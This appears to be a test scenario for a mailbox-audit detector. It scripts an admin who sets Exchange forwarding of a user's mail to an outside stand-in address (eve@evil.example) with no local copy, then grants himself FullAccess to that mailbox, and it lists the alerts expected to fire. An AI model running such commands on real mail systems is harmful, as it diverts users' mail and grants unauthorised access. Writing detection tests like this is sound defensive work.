# Forwarding set as a parameter of the mailbox, and full access an administrator gives to himself.
domain fabrikam.com
person amy "Amy Adams"
person root "Rita Root" admin

mon 09:00 root runs Set-Mailbox as admin on amy Identity="amy@fabrikam.com" ForwardingSmtpAddress="smtp:eve@evil.example" DeliverToMailboxAndForward="False"
mon 09:30 root runs Add-MailboxPermission as admin on amy Identity="amy@fabrikam.com" User="root@fabrikam.com" AccessRights="FullAccess"
expect mailbox-forwards-outside amy risk 60 says "eve@evil.example"
expect mailbox-access-to-oneself amy
